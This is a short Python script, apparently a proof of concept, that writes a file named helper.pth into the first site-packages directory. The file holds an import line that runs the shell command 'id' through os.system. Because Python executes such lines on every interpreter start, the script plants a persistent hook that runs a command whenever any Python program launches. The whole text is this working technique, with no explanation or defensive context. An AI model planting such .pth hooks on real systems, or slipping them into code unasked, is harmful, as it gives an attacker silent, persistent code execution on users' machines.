import site

with open(site.getsitepackages()[0] + "/helper.pth", "w") as file:
    file.write("import os; os.system('id')")
